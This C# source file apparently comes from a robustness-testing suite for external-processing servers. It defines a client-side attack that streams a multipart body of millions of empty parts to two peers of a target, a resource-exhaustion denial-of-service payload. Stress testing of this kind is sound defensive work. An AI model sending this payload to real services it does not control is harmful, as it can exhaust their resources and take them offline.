using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using Google.Protobuf;

namespace ExtProc.Attacks.Bodies;

/// <summary>A multipart body of millions of empty parts.</summary>
internal sealed class PartsWithoutNumber : Attack
{
    public override Attacker By => Attacker.Client;

    public override Config Config => Configs.Replacing;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        ByteString piece = ByteString.CopyFrom("--b\r\n\r\n\r\n"u8.Times(5_000));
        await Uploads.SendAsync(peer, Requests.RequestHeaders(more: ("content-type", "multipart/form-data; boundary=b")), Enumerable.Repeat(piece, target.Count(10, 500)));
    });
}
